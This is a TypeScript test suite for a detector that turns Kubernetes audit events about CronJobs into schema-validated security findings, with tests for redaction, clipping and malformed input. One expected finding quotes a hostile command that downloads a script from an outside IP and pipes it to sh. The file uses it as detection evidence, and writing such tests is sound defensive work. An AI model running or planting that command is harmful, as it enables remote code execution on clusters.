import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { test } from 'node:test';
import { Ajv2020 } from 'ajv/dist/2020.js';
import addFormats from 'ajv-formats';
import { BECAUSE } from '../model/seen.ts';
import { type AssessmentLike, toFinding } from './finding.ts';
import {
  activityWith,
  assessmentWith,
  cronJob,
  HOSTILE,
  hitWith,
  indicatorWith,
  POD,
  POINTER,
  readingWith,
} from './testing.ts';

const options = { ruleset: '1' };
const build = (change: Partial<AssessmentLike> = {}): ReturnType<typeof toFinding> =>
  toFinding(assessmentWith(change), options);

const ajv = new Ajv2020({ allErrors: true, strict: true, allowUnionTypes: true });
// A CommonJS module whose types name a default that Node gives as the module itself.
const withFormats = addFormats as unknown as (ajv: Ajv2020) => void;
withFormats(ajv);
const schema: Record<string, unknown> = JSON.parse(
  readFileSync(new URL('../../schema/finding.v1.json', import.meta.url), 'utf8'),
);
const validate = ajv.compile(schema);
const assertValid = (finding: unknown): void => {
  // As it is printed: through JSON text.
  assert.ok(validate(JSON.parse(JSON.stringify(finding))), ajv.errorsText(validate.errors));
};

const row = {
  TimeGenerated: null,
  Resource: 'cronjobs',
  Verb: 'create',
  Namespace: 'dev',
  Name: 'backup',
  User: '',
  UserAgent: '',
  SourceIP: '',
  IsSuspiciousImage: true,
  IsSuspiciousCommand: true,
  IsHostPathMount: false,
  IsPrivileged: false,
  IsHostNetwork: false,
  IsSensitiveMount: false,
  IsServiceAccountToken: false,
  SuspicionScore: 2,
  RequestBody: '{"image":"alpine"}',
};

test('a finding of a whole CronJob', () => {
  const finding = build({ activity: activityWith({ sentinel: row }) });
  assert.deepEqual(
    finding.indicators.map(({ id, weight }) => [id, weight]),
    [
      ['command.remote-fetch', 35],
      ['image.untagged', 9],
    ],
    'the heaviest comes first',
  );
  assert.deepEqual(finding.indicators[0]?.evidence, [
    {
      says: 'Container "main" downloads a script and runs it in one step.',
      pointer: `/requestObject${POINTER}/containers/0/command/2`,
      value: 'curl -s https://203.0.113.7/x | sh',
      container: 'main',
      decoded: ['base64'],
    },
  ]);
  assert.deepEqual(
    finding.attack.map(({ id, name }) => [id, name]),
    [
      ['T1053.007', 'Container Orchestration Job'],
      ['T1105', 'Ingress Tool Transfer'],
    ],
  );
  assert.deepEqual(finding.attack[0]?.tactics, ['execution', 'persistence', 'privilege-escalation']);
  assert.deepEqual(finding.workload, {
    apiVersion: 'batch/v1',
    kind: 'CronJob',
    namespace: 'dev',
    name: 'backup',
    uid: null,
    schedule: '*/5 * * * *',
    generateName: null,
    serviceAccount: 'runner',
    images: [
      { name: 'alpine:3.22', digest: null },
      { name: 'registry.example.com/side', digest: `sha256:${'a'.repeat(64)}` },
    ],
    templateHash: finding.workload.templateHash,
  });
  assert.deepEqual(finding.compat.sentinel, {
    IsSuspiciousImage: true,
    IsSuspiciousCommand: true,
    IsHostPathMount: false,
    IsPrivileged: false,
    IsHostNetwork: false,
    IsSensitiveMount: false,
    IsServiceAccountToken: false,
    SuspicionScore: 2,
  });
  assert.deepEqual(finding.object, { pointer: '/requestObject', kind: 'object', body: cronJob(POD) });
  assert.deepEqual(finding.events, [
    {
      auditId: '5c1f7a52-0000-4000-8000-000000000001',
      time: '2026-11-24T10:00:00.234567Z',
      verb: 'create',
      source: 'audit.jsonl',
      offset: 4_096,
    },
  ]);
  assertValid(finding);
});

test('the cluster: named by the envelope, else by the user, else unknown', () => {
  const assessment = assessmentWith({ activity: activityWith({ event: { cluster: 'from-envelope' } }) });
  assert.equal(toFinding(assessment, { ...options, cluster: 'named' }).cluster, 'from-envelope');
  assert.equal(toFinding(assessmentWith(), { ...options, cluster: 'named' }).cluster, 'named');
  assert.equal(build().cluster, 'unknown');
});

test('every delivery of the act is listed, and the received time of any names it', () => {
  const cut = activityWith({ event: { receivedAt: null, cutAt: '/requestObject', source: 'cut.jsonl' } });
  const events = [cut.event, activityWith().event];
  const finding = toFinding(assessmentWith({ activity: cut }), { ...options, events });
  assert.deepEqual(
    finding.events.map(({ source }) => source),
    ['cut.jsonl', 'audit.jsonl'],
  );
  assert.equal(finding.count, 1);
  assert.equal(finding.id, build().id);
});

test('the id is the same for other indicators, rule sets and clusters', () => {
  const other = toFinding(assessmentWith({ hits: [], risk: 0 }), { ...options, ruleset: '2', cluster: 'x' });
  assert.equal(other.id, build().id);
});

test('no body: nothing is said of what it may have held', () => {
  const finding = build({
    reading: null,
    hits: [],
    unassessed: [{ id: 'command.remote-fetch', because: 'level-metadata' }],
  });
  assert.equal(finding.object, null);
  assert.deepEqual(
    [
      finding.workload.schedule,
      finding.workload.serviceAccount,
      finding.workload.images,
      finding.workload.templateHash,
    ],
    [null, null, [], null],
  );
  assertValid(finding);
});

test('a patch is shown at its place in the event', () => {
  const reading = readingWith(POD, {
    kind: 'json-patch',
    missing: 'patch-without-base',
    origins: [{ at: '', from: '/requestObject/0/value' }],
  });
  const finding = build({ reading });
  assert.equal(finding.object?.pointer, '/requestObject/0/value');
  assert.equal(finding.object?.kind, 'json-patch');
  assertValid(finding);
});

test('no secret is left in the text of a finding', () => {
  const secret = 's3cr3t-Value-77';
  const token = `eyJ${'a'.repeat(20)}.${'b'.repeat(20)}.${'c'.repeat(20)}`;
  const text = `curl -H "Authorization: Bearer ${token}" --password ${secret} https://x:${secret}@example.com`;
  const pod = {
    containers: [
      {
        name: 'main',
        image: `x:${secret}@registry.example.com/app`.replace('x:', 'https://x:'),
        args: [text, '--token', secret],
        env: [{ name: 'API_TOKEN', value: secret }],
      },
    ],
  };
  const hit = hitWith(indicatorWith('command.x', 'Title', 'high'), 1, { says: `It runs ${text}`, at: '', value: text });
  const finding = build({
    reading: readingWith(pod),
    hits: [hit],
    activity: activityWith({ actor: { claimedUserAgent: `x Bearer ${token}`, username: 'jane' } }),
  });
  const printed = JSON.stringify(finding);
  assert.ok(!printed.includes(secret) && !printed.includes('bbbb'), printed);
});

test('a value as long as an attacker likes is clipped', () => {
  const hit = hitWith(indicatorWith('a.b', 'T', 'low'), 1, { says: 's', at: '', value: 'v'.repeat(1_000_000) });
  assert.equal(build({ hits: [hit] }).indicators[0]?.evidence[0]?.value.length, 2_000);
});

for (const hostile of HOSTILE) {
  test(`hostile text makes a valid finding: ${JSON.stringify(hostile)}`, () => {
    const hit = hitWith(indicatorWith('a.b', 'Title', 'low'), 1, {
      says: hostile,
      at: '',
      value: hostile,
      container: hostile,
      decoded: [hostile],
    });
    assertValid(
      build({
        hits: [hit],
        reading: readingWith({ containers: [{ name: hostile, image: hostile }], serviceAccountName: hostile }),
        activity: activityWith({
          actor: { username: hostile, groups: [hostile], claimedUserAgent: hostile, claimedSourceIps: [hostile] },
          workload: { kind: hostile, namespace: hostile, name: hostile, generateName: hostile },
          event: { auditId: hostile, source: hostile, cluster: hostile, time: { at: null, exact: false } },
          request: { verb: hostile },
        }),
      }),
    );
  });
}

test('wrong types in a body make a valid finding', () => {
  for (const wrong of [null, 1, 'x', [], [[]], { containers: 1 }]) {
    const pod = { containers: [{ image: wrong, name: wrong }], serviceAccountName: wrong };
    const object = { ...cronJob(pod), spec: { schedule: wrong } };
    const assessment = readingWith(pod, { object });
    assertValid(build({ reading: assessment }));
  }
});

/** One change to a good finding that the schema must refuse. */
const broken: Readonly<Record<string, (finding: Record<string, unknown>) => void>> = {
  'no id': (finding) => delete finding.id,
  'an id of another form': (finding) => Object.assign(finding, { id: 'X' }),
  'an unknown member': (finding) => Object.assign(finding, { extra: 1 }),
  'another schema': (finding) => Object.assign(finding, { schema: 'cronwarden.finding/v2' }),
  'a severity that is none': (finding) => Object.assign(finding, { severity: 'urgent' }),
  'a risk over 100': (finding) => Object.assign(finding, { risk: 101 }),
  'a confidence over 1': (finding) => Object.assign(finding, { confidence: 90 }),
  'a time that is no date': (finding) => Object.assign(finding, { firstSeen: 'yesterday' }),
  'an unknown member of the workload': (finding) => Object.assign(finding.workload ?? {}, { extra: 1 }),
  'a name that is no text': (finding) => Object.assign(finding.workload ?? {}, { name: 5 }),
  'a reason that is not on the list': (finding) =>
    Object.assign(finding, { unassessed: [{ id: 'a.b', because: 'tired' }] }),
  'an indicator id without a family': (finding) =>
    Object.assign(finding, { unassessed: [{ id: 'Command', because: 'truncated' }] }),
  'a technique that is none': (finding) =>
    Object.assign(finding, { attack: [{ version: '18.1', id: 'TA0002', name: 'x', tactics: [] }] }),
  'no event': (finding) => Object.assign(finding, { events: [] }),
  'a score that the query cannot give': (finding) =>
    Object.assign(finding, { compat: { sentinel: { ...row, SuspicionScore: 7 } } }),
  'no word on compat': (finding) => Object.assign(finding, { compat: {} }),
  'an object that is a text': (finding) =>
    Object.assign(finding, { object: { pointer: '', kind: 'object', body: 'x' } }),
};
for (const [situation, breakIt] of Object.entries(broken)) {
  test(`the schema refuses ${situation}`, () => {
    const finding: Record<string, unknown> = JSON.parse(JSON.stringify(build()));
    assertValid(finding);
    breakIt(finding);
    assert.equal(validate(finding), false);
  });
}

test('the schema knows every reason for which something is unassessed', () => {
  assertValid(build({ unassessed: BECAUSE.map((because) => ({ id: 'a.b', because })) }));
});
